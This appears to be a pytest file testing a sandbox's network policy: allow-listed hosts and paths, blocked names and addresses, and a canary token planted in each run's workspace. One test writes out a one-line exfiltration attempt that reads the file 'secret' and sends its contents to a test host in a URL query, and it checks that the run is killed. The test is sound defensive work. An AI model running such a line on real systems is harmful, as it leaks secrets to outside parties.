"""The network of a pool's runs: each has its own gateway, and all have the same rules."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from network_certificates import Certificates
from network_routes import codes, network, rule, told
from network_web import Site, Web

from belljar import PolicyError, Pool
from belljar.sandbox.result import Outcome

pytestmark = pytest.mark.backend("bubblewrap")

REACHES = """
import socket, urllib.error, urllib.request

def tried(what):
    try:
        return what()
    except urllib.error.HTTPError as error:
        return error.code
    except OSError as error:
        return type(getattr(error, "reason", error)).__name__

get = lambda url: tried(lambda: urllib.request.urlopen(url, timeout=20).read().decode().strip())
print(get("http://web.test/"), get("https://deep.wild.test/listed"), get("https://deep.wild.test/other"))
print(get("http://other.test/"), tried(lambda: socket.create_connection(("192.0.2.1", 81), 10)))
"""
SEEN = "hello from web.test/ to GET hello from deep.wild.test/listed to GET 403\n403 ConnectionRefusedError\n"


@pytest.fixture
def pool(web: Web, secure: Web, certificates: Certificates) -> Iterator[Pool]:
    """One whose runs reach a server without TLS, and one path of a server with."""
    rules = (rule("web.test", web.address), rule("deep.wild.test", secure.address, paths=["/listed"]))
    policy = network(*rules, ca_file=str(certificates.authority), canary_files=["/workspace/secret"])
    with Pool(policy, size=2) as made:
        yield made


def test_what_is_listed_is_reached(pool: Pool) -> None:
    """And nothing else, in one run after the other, and in several at once."""
    for result in (pool.run(REACHES), *pool.map([REACHES] * 4, concurrency=2)):
        assert told(result) == SEEN
        assert codes(result) == {"path-not-listed", "name-not-listed", "address-not-listed"}


def test_code_that_needs_no_network(pool: Pool) -> None:
    """Has it all the same, and ends as any other."""
    assert told(pool.run("print(1)")) == "1\n"


def test_a_planted_token_stops_the_run(pool: Pool, site: Site) -> None:
    """It lies in every run's workspace, and is no artifact."""
    result = pool.run("print(len(open('secret').read()))")
    assert told(result) == "41\n"
    assert result.artifacts == ()
    code = "import urllib.request as u; u.urlopen('http://web.test/?' + open('secret').read().strip())"
    result = pool.run(code)
    assert result.outcome is Outcome.KILLED
    assert "canary token" in result.reason
    assert not site.requests


def test_a_token_that_would_lie_elsewhere() -> None:
    with pytest.raises(PolicyError, match="not in the workspace"):
        Pool({**network(canary_files=["/data/secret"]), "fs": {"mounts": [{"path": "/data", "rw": True}]}})
